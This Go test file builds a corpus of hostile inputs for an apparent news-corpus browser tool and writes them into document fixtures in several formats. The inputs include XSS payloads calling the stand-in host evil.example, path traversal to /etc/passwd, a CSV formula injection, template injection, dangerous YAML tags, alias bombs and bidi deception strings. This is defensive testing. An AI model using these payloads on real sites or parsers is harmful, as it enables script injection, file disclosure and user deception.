package browsertest

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostileInputs are what a document may contain to run code, to break out of its context, or to
// deceive. If their code ever ran, it would set window.hostile, open a dialog or send a request
// to another host.
var hostileInputs = []string{
	// Elements that run.
	`<script>window.hostile=1;alert(1)</script>`,
	`</script><script>window.hostile=1;alert(1)</script>`,
	`<script src="//evil.example/x.js"></script>`,
	`<script src=data:text/javascript,alert(1)></script>`,
	`<ScRiPt type=module>import("//evil.example/x.js")</sCrIpT>`,
	`<<script>alert(1)//<</script>`,
	`<script/x>alert(1)</script/x>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<iframe src="javascript:parent.hostile=1"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;parent.hostile=1&lt;/script&gt;"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
	`<link rel="stylesheet" href="//evil.example/x.css">`,
	`<link rel=prefetch href=//evil.example/>`,
	`<style>@import "//evil.example/x.css";*{display:none}</style>`,
	`<form action="//evil.example/"><input name=q><button formaction="javascript:alert(1)">`,
	`<input autofocus onfocus=alert(1)>`,
	`<math><mtext></mtext><script>alert(1)</script></math>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="window.hostile=1"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<kashshaf-explorer src="//evil.example/"></kashshaf-explorer>`,

	// SVG.
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x">`,
	`<svg><style><img src="</style><img src=x onerror=alert(1)//">`,

	// Handlers and attributes.
	`<img src=x onerror=alert(1)>`,
	`<img src="//evil.example/pixel.png">`,
	`<img/src='x'/onerror='window.hostile=1'>`,
	`<b onmouseover=alert(1) style="position:fixed;inset:0">x</b>`,
	`" onmouseover="alert(1)" x="`,
	`' onfocus='alert(1)' autofocus '`,
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	"` onclick=alert(1) `",
	`x" style="background:url(//evil.example/)`,
	`\" onmouseover=\"alert(1)`,
	`--><script>alert(1)</script><!--`,
	`]]><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`,
	`</textarea><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`<!--<img src="--><img src=x onerror=alert(1)>`,

	// Addresses.
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(1)`,
	"java\tscript:alert(1)",
	"\x01javascript:alert(1)",
	`javascript&colon;alert(1)`,
	`javascript://example.org/%0Aalert(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`vbscript:msgbox(1)`,
	`blob:https://evil.example/x`,
	`file:///etc/passwd`,
	`//evil.example/`,
	`\\evil.example\share`,
	`https://example.org"onmouseover="alert(1)`,
	`https://example.org/<script>alert(1)</script>`,
	`https://example.org/` + "\u202e" + `moc.elgoog//:sptth`,
	`https://user:password@evil.example/`,

	// Templates and formats.
	`{{.}}{{alert(1)}}`,
	`{{constructor.constructor('alert(1)')()}}`,
	`${alert(1)}`,
	`<%= system("id") %>`,
	`%s%s%n%x %!d(MISSING)`,
	`{"@context":"x"},"</script><script>alert(1)</script>"`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	"\u2028alert(1)\u2029",
	`[x](javascript:alert(1))`,
	`![x](//evil.example/x.png "onerror=alert(1)")`,
	`<javascript:alert(1)>`,
	"```html\n<script>alert(1)</script>\n```",

	// Visual deception.
	"\u202eقلب الاتجاه\u202c",
	"\u202eلا يغلق أبدا",
	"\u2067\u2066عزل لا يغلق",
	"\u202a\u202b\u202d\u202e\u2066\u2067\u2068",
	"\u2069\u202c\u2069\u202c يغلق ما لم يفتح",
	"وز\u200bير الد\u2060فاع\ufeff",
	"هد\u034fنة\u180e و\u3164تهدئة\u115f",
	"\u200d\u200c\u200d",
	"\u3164",
	"مرحبا\U000e0041\U000e0042\U000e007f",
	"\ufff9حاشية\ufffaتحت\ufffbفوق",
	"\u206a\u206b\u206c\u206d\u206e\u206f",
	"paypal.com\u2028evil",
	"ع" + strings.Repeat("\u064e\u0651", 200),
	"Z" + strings.Repeat("\u0300\u0316", 200),

	// What breaks programs that read bytes.
	"\x00\x01\x02\x1b[31mأحمر\x1b[0m\x07",
	"\x1b]0;title\x07\x1b]8;;http://evil.example/\x07",
	"سطر\rسطر\r\nسطر\vسطر\fسطر\u0085سطر",
	"\xff\xfe\xc0\x80\xed\xa0\x80",
	"\ufffe\uffff\U0010ffff",
	strings.Repeat("طويلة", 4000),
	strings.Repeat("W", 20000),
	strings.Repeat("<div>", 20000),
	strings.Repeat("((((", 2000) + strings.Repeat("\"", 999),
	strings.Repeat("& < > \" ' ", 500),
	`../../../../etc/passwd`,
	`CON`,
	`.git/config`,
	`__proto__`,
	`constructor`,
	`toString`,
	"=cmd|' /C calc'!A0",
	`null`,
	`-1e999`,
}

// writeHostile writes a corpus of hostile inputs: each in every field of a Markdown document, and
// again in a record, a row, a page and a text; in the publisher's entities, in kashshaf.yaml and
// in file names. It returns the number of inputs, counted once for every place they are in.
func writeHostile(t *testing.T, dir string) int {
	t.Helper()
	n := 0
	write := func(name string, data []byte) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	quote := func(s string) string { // a JSON string, which is also YAML
		var b bytes.Buffer
		e := json.NewEncoder(&b)
		e.SetEscapeHTML(false)
		if err := e.Encode(strings.ToValidUTF8(s, "\ufffd")); err != nil {
			t.Fatal(err)
		}
		return strings.TrimSpace(b.String())
	}
	var records, rows bytes.Buffer
	table := csv.NewWriter(&rows)
	table.Write([]string{"id", "title", "text", "source", "author", "url", "topic", "date"})
	const plain = "\n\nقال المتحدث إن الهدنة في إدلب صامدة، وأضاف بوتين أن الاتفاق قائم.\n\n"
	for i, in := range hostileInputs {
		q := quote(in)
		var md bytes.Buffer
		fmt.Fprintf(&md, "---\nid: h%d\ntitle: %s\noutlet: %s\nauthor: %s\nurl: %s\ntopic: [%s]\nbased_on: [%s]\ndate: 2019-01-%02d\n---\n%s%s%s",
			i, q, q, q, q, q, q, 1+i%28, plain, in, plain)
		write(fmt.Sprintf("h%d.md", i), md.Bytes())
		fmt.Fprintf(&records, `{"id":%s,"title":%s,"text":%s,"source":{"name":%s},"authors":[%s],"url":%s,"tags":[%s],"date":%s}`+"\n",
			quote(fmt.Sprintf("r%d%.40s", i, in)), q, quote("نص السجل "+in+plain), q, q, q, q, q)
		table.Write([]string{fmt.Sprintf("c%d", i), in, "نص الصف " + in + plain, in, in, in, in, "2018"})
		write(fmt.Sprintf("p%d.html", i), fmt.Appendf(nil,
			"<!doctype html><title>%s</title><meta property=\"og:site_name\" content=\"%s\"><article><h1>عنوان %d %s</h1><p>فقرة أولى عن الهدنة في إدلب وما قاله المتحدث عنها. %s</p><p title='%s'>فقرة ثانية %s</p></article>",
			in, in, i, in, plain, in, in))
		write(fmt.Sprintf("t%d.txt", i), []byte("عنوان النص رقم ما\n\n"+in+plain+in))
		n += 8 + 8 + 7 + 5 + 2 // places, in the order of the formats above
	}
	table.Flush()
	write("records.jsonl", records.Bytes())
	write("rows.csv", rows.Bytes())

	// File names: whatever a file system accepts.
	for i, in := range hostileInputs {
		name := strings.NewReplacer("/", "∕", "\x00", "").Replace(in)
		if len(name) > 200 {
			continue
		}
		path := filepath.Join(dir, fmt.Sprintf("f%d", i), name)
		if os.MkdirAll(path, 0o755) == nil && os.WriteFile(filepath.Join(path, name+".txt"), []byte("نص باسم ملف غريب\n"+plain), 0o644) == nil {
			n++
		}
	}
	// Front matter that is invalid, or dangerous to parse.
	for i, front := range []string{
		"a: &a [*a]", "a: &a {b: *a}", "title: &x [x, x]\nauthor: [*x, *x]", "<<: {title: x}", "title: !!binary AAAA", "title: !!js/function alert",
		"title: !<tag:yaml.org,2002:python/object/apply:os.system> x", "? [a, b]\n: c", "title: {a: {b: {c: d}}}", strings.Repeat("[", 20000),
		"title: |\n  <script>alert(1)</script>", "title: \"\\u202e\\u0000\"", "id: ../../../x", "id: [a, b]", "date: 99999-99-99", "date: &d 2019-01-01\npublished: *d",
		"<script>alert(1)</script>: x", "title: x\ntitle: y", "\tx: y", "title: \xff\xfe",
		"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ntitle: *d",
	} {
		write(fmt.Sprintf("y%d.md", i), []byte("---\n"+front+"\n---\n# عنوان\n"+plain))
		n++
	}

	// The publisher's entities, each mentioned in a document.
	var entities, spoken strings.Builder
	entities.WriteString("id\ttype\tname\tenglish\taliases\twikidata\n")
	spoken.WriteString("من ذُكر\n\n")
	for i, in := range hostileInputs {
		cell := strings.Map(func(r rune) rune {
			if r == '\t' || r == '\n' || r == '\r' || r == '|' {
				return ' '
			}
			return r
		}, strings.ToValidUTF8(in, "\ufffd"))
		if len(cell) > 2000 {
			cell = cell[:2000]
			cell = strings.ToValidUTF8(cell, "")
		}
		kind := []string{"person", "place", "organization", "event"}[i%4]
		fmt.Fprintf(&entities, "hostile-%d\t%s\tعدنان%d %s\t%s\t%s|زعفران%d\t\n", i, kind, i, cell, cell, cell, i)
		fmt.Fprintf(&spoken, "قال زعفران%d إن الأمر انتهى، وأكد زعفران%d ذلك.\n\n", i, i)
		n += 3
	}
	write("entities.tsv", []byte(entities.String()))
	write("spoken.txt", []byte(spoken.String()))

	bad := quote("\u202e<script>alert(1)</script>\"'>&{{.}}\u2067\x1b[31m")
	var questions []string
	for _, in := range hostileInputs[:40] {
		questions = append(questions, quote(in))
	}
	write("kashshaf.yaml", fmt.Appendf(nil, "title: %s\ntitle_en: %s\ndescription: %s\ndescription_en: %s\npublisher: %s\nquestions: [%s]\n",
		bad, bad, bad, bad, bad, strings.Join(questions, ", ")))
	return n + 5 + len(questions)
}
